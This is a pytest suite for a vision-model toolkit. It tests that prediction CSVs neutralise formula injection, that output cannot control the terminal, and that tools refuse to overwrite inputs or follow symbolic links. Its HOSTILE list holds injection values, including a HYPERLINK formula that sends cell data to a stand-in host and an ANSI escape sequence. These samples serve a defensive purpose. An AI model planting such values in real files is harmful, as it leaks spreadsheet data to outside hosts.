"""Result files: which files they may replace, their folders, formulas and control characters."""

import csv
import io
import os
import pty
import sys
from pathlib import Path

import pytest
import torch
from helpers.planted import Outside
from PIL import Image
from safetensors.torch import load, load_file

from tools.ablation import main as ablate
from tools.ablation import output, scheduler
from tools.ablation.grid import read_grid
from tools.ablation.results import collect
from tools.benchmarks.program import benchmark
from tools.data_inspection import main as inspect_data
from tools.dev import draw_attention
from tools.programs import export, find_lr, predict, probe
from tools.report_page import main as report
from tools.visualization import main as visualize
from vil.checkpoints.safetensors_file import write_safetensors
from vil.checkpoints.weights import Weights
from vil.config import ModelConfig, StageConfig
from vil.errors import UserError
from vil.models.zoo import model_from_config
from vil.runtime.csv_text import csv_text

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "\x1b[2Jok",
]


@pytest.fixture(scope="module")
def weights(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small model whose classes have hostile names."""
    path = tmp_path_factory.mktemp("weights") / "model.safetensors"
    stage = StageConfig(dim=8, heads=2, blocks=1, patch=4, attention="full")
    config = ModelConfig(name="vil", stages=[stage], image_size=16, num_classes=len(HOSTILE))
    torch.manual_seed(0)
    model = model_from_config(config)
    data = {"mean": [0.5] * 3, "std": [0.5] * 3}
    write_safetensors(
        path,
        Weights(
            str(path), "run", "raw", model.state_dict(), config, transform=data, class_names=tuple(HOSTILE)
        ),
    )
    return path


@pytest.fixture
def image(tmp_path: Path) -> Path:
    Image.new("RGB", (16, 16), "red").save(tmp_path / "image.png")
    return tmp_path / "image.png"


def test_formulas_become_texts():
    rows = list(csv.reader(io.StringIO(csv_text([HOSTILE, [1, -2.5, None, "", "a-b"]]))))
    assert all(cell.startswith("'") for cell in rows[0][:-1])
    assert [cell.removeprefix("'") for cell in rows[0]] == HOSTILE
    assert rows[1] == ["1", "-2.5", "", "", "a-b"]


def test_class_names_in_a_csv_of_predictions(weights: Path, image: Path, tmp_path: Path):
    output = tmp_path / "out.csv"
    predict.main([str(weights), str(image), "--top", "99", "--workers", "0", "--device", "cpu",
                     "--format", "csv", "--output", str(output)])  # fmt: skip
    with output.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("form", ["csv", "json", "table"])
def test_predictions_do_not_control_the_terminal(
    weights: Path, image: Path, form: str, monkeypatch: pytest.MonkeyPatch
):
    master, terminal = pty.openpty()
    argv = [str(weights), str(image), "--top", "99", "--workers", "0", "--device", "cpu", "--format", form]
    with open(terminal, "w", encoding="utf-8") as stdout, monkeypatch.context() as patch:
        patch.setattr(sys, "stdout", stdout)
        predict.main(argv)
    shown = b""
    try:
        while part := os.read(master, 4096):
            shown += part
    except OSError:  # the end of a terminal
        pass
    os.close(master)
    assert b"[2Jok" in shown
    assert b"\x1b" not in shown


def refused(program, argv, *paths: Path) -> None:
    before = [path.read_bytes() for path in paths]
    with pytest.raises(UserError, match="is an input of this command"):
        program(list(map(str, argv)))
    assert [path.read_bytes() for path in paths] == before


def test_inputs_are_not_replaced(weights: Path, image: Path, tmp_path: Path):
    copy = tmp_path / "copy.safetensors"
    copy.write_bytes(weights.read_bytes())
    (tmp_path / "link").symlink_to(copy)
    line = [copy, image, "--workers", "0", "--device", "cpu", "--output"]
    for path in (copy, image, tmp_path / "link"):
        refused(predict.main, [*line, path], copy, image)
    refused(predict.main, [copy, tmp_path, *line[2:], image], copy, image)  # an image of a folder
    for path in (copy, tmp_path / "link"):
        refused(export.main, [copy, path, "--format", "safetensors"], copy)
    hub = tmp_path / "hub"
    hub.mkdir()
    copy.rename(hub / "model.safetensors")
    refused(export.main, [hub / "model.safetensors", hub, "--format", "hf"], hub / "model.safetensors")
    sheets = tmp_path / "sheets"
    sheets.mkdir()
    image.rename(sheets / "stage1_rollout.png")
    argv = [weights, sheets / "stage1_rollout.png", "--output", sheets]
    refused(visualize.main, argv, sheets / "stage1_rollout.png")


def test_files_of_a_run_are_not_replaced(tmp_path: Path):
    import eval as eval_program

    (tmp_path / "checkpoints").mkdir()
    for name in ("config.yaml", "metrics.jsonl", "checkpoints/best.pt"):
        (tmp_path / name).write_text("{}\n")
        refused(report.main, [tmp_path, "--output", tmp_path / name], tmp_path / name)
        argv = ["--checkpoint", tmp_path, "--data.source", "digits", "--json", tmp_path / name]
        refused(eval_program.main, argv, tmp_path / name)


GRID = "base: {config: configs/models/vil_32.yaml}\nfactors: {a: {x: , y: {seed: 1}}}\nseeds: [0]\n"


@pytest.mark.parametrize("name", ["...yaml", "..yaml", ".hidden.yaml", "a b  c.yaml", "-x.yaml"])
def test_a_grid_writes_into_its_own_folder(tmp_path: Path, name: str):
    (tmp_path / name).write_text(GRID)
    with pytest.raises(UserError, match="cannot name a folder of results; rename the file"):
        ablate.main([str(tmp_path / name), "--output", str(tmp_path / "a" / "b"), "--report"])
    assert os.listdir(tmp_path) == [name]


def small_grid(folder: Path):
    (folder / "grid.yaml").write_text(
        "base: {data.source: digits}\nseeds: [0]\n"
        "factors: {a: {x: {schedule.epochs: 1}, y: {schedule.epochs: 2}}}\n"
    )
    return read_grid(str(folder / "grid.yaml"), folder / "output")


def test_links_in_the_folder_of_a_grid(tmp_path: Path):
    outside, grid = Outside(tmp_path / "outside"), small_grid(tmp_path)
    (tmp_path / "output").mkdir()
    outside.plant(tmp_path / "output" / "grid", is_folder=True, exists=True)
    with pytest.raises(UserError, match="symbolic link"):
        output.write_results(grid, collect(grid), "command")
    with pytest.raises(UserError, match="symbolic link"):
        scheduler.start(grid.runs()[0], 0, {}, None)
    assert outside.changes() == []


@pytest.mark.parametrize("name", [".ablate.lock", "log.txt", "errors.txt"])
def test_links_in_the_folder_of_a_cell(tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch):
    outside, run = Outside(tmp_path / "outside"), small_grid(tmp_path).runs()[0]
    run.folder.mkdir(parents=True)
    outside.plant(run.folder / name, is_folder=False, exists=True)
    monkeypatch.setattr(scheduler, "PROGRAM", ["true"])

    class Silent:
        def run_started(self, run):
            pass

    with pytest.raises(UserError, match=f"{name} cannot be written: is a symbolic link"):
        scheduler.start(run, 0, dict(os.environ), Silent())
    assert outside.changes() == []


def test_links_in_other_folders_of_results(tmp_path: Path, weights: Path, monkeypatch: pytest.MonkeyPatch):
    outside = Outside(tmp_path / "outside")
    for name in ("config.json", "model.safetensors"):
        outside.plant(tmp_path / name, is_folder=False, exists=True)
    export.main([str(weights), str(tmp_path), "--format", "hf"])
    assert outside.changes() == []
    assert load_file(tmp_path / "model.safetensors")
    outside.plant(tmp_path / "masks.png", is_folder=False, exists=True)
    monkeypatch.setattr(draw_attention, "FIGURES", {"masks": draw_attention.draw_neighbors})
    draw_attention.main(["--folder", str(tmp_path)])
    assert outside.changes() == []


@pytest.fixture
def photographs(tmp_path: Path) -> Path:
    """A folder of two classes with training and validation images, and a YAML file that names it."""
    root = tmp_path / "photographs"
    for number, name in enumerate(("train/ant", "train/bee", "val/ant", "val/bee")):
        (root / name).mkdir(parents=True)
        for index in range(2):
            color = (number, index, 9 * index)
            Image.new("RGB", (16, 16), color).save(root / name / f"{index}.png")
    (tmp_path / "data.yaml").write_text(f"source: folder\nroot: {root}\nworkers: 0\n")
    (tmp_path / "list.txt").write_text("ant/0.png\nant/1.png\nbee/0.png\nbee/1.png\n")
    return root


@pytest.fixture
def two_classes(tmp_path: Path) -> Path:
    stage = StageConfig(dim=8, heads=2, blocks=1, patch=4, attention="full")
    config = ModelConfig(name="vil", stages=[stage], image_size=16, num_classes=2)
    state_dict = model_from_config(config).state_dict()
    content = Weights("x", "run", "raw", state_dict, config, class_names=("ant", "bee"))
    write_safetensors(tmp_path / "two.safetensors", content)
    return tmp_path / "two.safetensors"


def test_inputs_of_programs_over_data_are_not_replaced(tmp_path: Path, photographs: Path, two_classes: Path):
    """YAML files, lists of images and initial weights, and the images themselves."""
    import eval as eval_program

    quiet = ["--device", "cpu", "--progress", "false"]
    data = ["--data", tmp_path / "data.yaml", "--data.list_file", tmp_path / "list.txt"]
    model = ["--model.init_from", two_classes, "--schedule.batch_size", "2"]
    image = photographs / "val" / "ant" / "0.png"
    link = tmp_path / "link.json"
    link.symlink_to(image)
    lines = {
        find_lr.main: [*data, *model, *quiet, "--steps", "10", "--json"],
        probe.main: [two_classes, *data, *quiet, "--methods", "knn", "--k", "1", "--shots", "--json"],
        eval_program.main: ["--checkpoint", two_classes, *data, *quiet, "--json"],
    }
    named = [tmp_path / "data.yaml", tmp_path / "list.txt", two_classes]
    for program, line in lines.items():
        for path in named:
            refused(program, [*line, path], path)
        for path in (image, link):
            with pytest.raises(UserError, match="is an image of the data set; name another file"):
                program(list(map(str, [*line, path])))
            assert Image.open(image).size == (16, 16)
    (tmp_path / "other.yaml").write_text("workers: 0\n")  # of no effect
    for program, line in lines.items():
        *options, output = line
        overridden = ["--data", tmp_path / "other.yaml", "--data.workers", "0", output]
        refused(program, [*options, *overridden, tmp_path / "other.yaml"], tmp_path / "other.yaml")
    datasets = ["--checkpoint", two_classes, *quiet, "--datasets", photographs / "val", "--csv", image]
    for program, line in (
        (eval_program.main, datasets),
        (inspect_data.main, [photographs, "--workers", "0", "--json", image]),
    ):
        with pytest.raises(UserError, match="is an image of the data set"):
            program(list(map(str, line)))
    archive = photographs / "train.tar"
    archive.write_bytes(b"archive")
    with pytest.raises(UserError, match="is an image of the data set"):
        inspect_data.main([str(photographs), "--sheet", str(archive)])
    for name in ("train.beton", "train.json"):
        (photographs / name).touch()
    with pytest.raises(UserError, match="names the classes of the data set"):
        inspect_data.main([str(photographs), "--json", str(photographs / "train.json")])


def test_a_figure_replaces_an_earlier_one_beside_the_classes(photographs: Path):
    argv = [str(photographs / "val"), "--workers", "0", "--sheet", str(photographs / "val" / "sheet.png")]
    for _ in range(2):
        inspect_data.main(argv)
    assert Image.open(photographs / "val" / "sheet.png").width > 100


def test_two_outputs_of_a_command_differ(tmp_path: Path, photographs: Path, two_classes: Path):
    output = str(tmp_path / "output")
    other = str(tmp_path / "photographs" / ".." / "output")
    lines = {
        inspect_data.main: [photographs, "--json", output, "--sheet", other],
        probe.main: [two_classes, "--data", tmp_path / "data.yaml", "--json", output, "--csv", other],
        find_lr.main: ["--data", tmp_path / "data.yaml", "--json", output, "--curve", other],
        benchmark: ["loader", "--sources", "digits=.", "--csv", output, "--markdown", other],
    }
    for program, line in lines.items():
        with pytest.raises(UserError, match=r"is the output of .* too; name another file"):
            program(list(map(str, line)))
    assert not (tmp_path / "output").exists()


def test_files_beside_a_checkpoint_are_not_replaced(tmp_path: Path, image: Path, two_classes: Path):
    """Its digest; of a checkpoint in a run's folder, all files of the run."""
    import eval as eval_program

    (tmp_path / "run" / "checkpoints").mkdir(parents=True)
    checkpoint = tmp_path / "run" / "checkpoints" / "best.pt"
    checkpoint.write_bytes(two_classes.read_bytes())
    two_classes.with_name("two.safetensors.sha256").write_text("digest\n")
    (tmp_path / "run" / "config.yaml").write_text("{}\n")
    digest = tmp_path / "run" / "checkpoints" / "best.pt.sha256"
    for given, path in (
        (checkpoint, digest),
        (checkpoint, tmp_path / "run" / "config.yaml"),
        (two_classes, two_classes.with_name("two.safetensors.sha256")),
    ):
        refused_argv = ["--checkpoint", given, "--data.source", "digits", "--json", path]
        path.write_text("content\n")
        refused(eval_program.main, refused_argv, path)
        refused(export.main, [given, path, "--format", "safetensors"], path)
    (tmp_path / "page.yaml").write_text(GRID + "# <!-- begin page --> <!-- end page -->\n")
    refused(
        ablate.main, [tmp_path / "page.yaml", "--markdown", tmp_path / "page.yaml"], tmp_path / "page.yaml"
    )


@pytest.mark.parametrize("name", ["n" * 256, "loop", "folder", ""])
def test_names_that_cannot_be_written_are_refused_before_any_work(
    tmp_path: Path, name: str, weights: Path, image: Path, monkeypatch: pytest.MonkeyPatch
):
    """Also a name that is too long for the file system, and a link to itself."""
    import eval as eval_program

    monkeypatch.chdir(tmp_path)
    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "folder").mkdir()
    monkeypatch.setattr(eval_program, "open_evaluation", lambda *_: pytest.fail("was not refused"))
    monkeypatch.setattr(predict, "predict", lambda *_: pytest.fail("was not refused"))
    argv = ["--checkpoint", str(weights), "--device", "cpu", "--json", name]
    with pytest.raises(UserError, match=r"^(command line: )?json: "):
        eval_program.main(argv)
    for program, line in (
        (predict.main, [weights, image, "--device", "cpu", "--workers", "0", "--output", name]),
        (report.main, [tmp_path, "--output", name]),
        (inspect_data.main, [tmp_path, "--json", name]),
    ):
        with pytest.raises(UserError, match=r"^--\w+: "):
            program(list(map(str, line)))


def test_a_long_name_is_exported(tmp_path: Path, weights: Path):
    path = tmp_path / ("n" * 250)
    export.main([str(weights), str(path), "--format", "safetensors"])
    assert load_file(path)


def test_standard_output_holds_the_export_alone(weights: Path, capfdbinary: pytest.CaptureFixture[bytes]):
    export.main([str(weights), "/dev/stdout", "--format", "safetensors"])
    out, err = capfdbinary.readouterr()
    assert load(out)
    assert err == b"/dev/stdout: safetensors, raw weights\n"
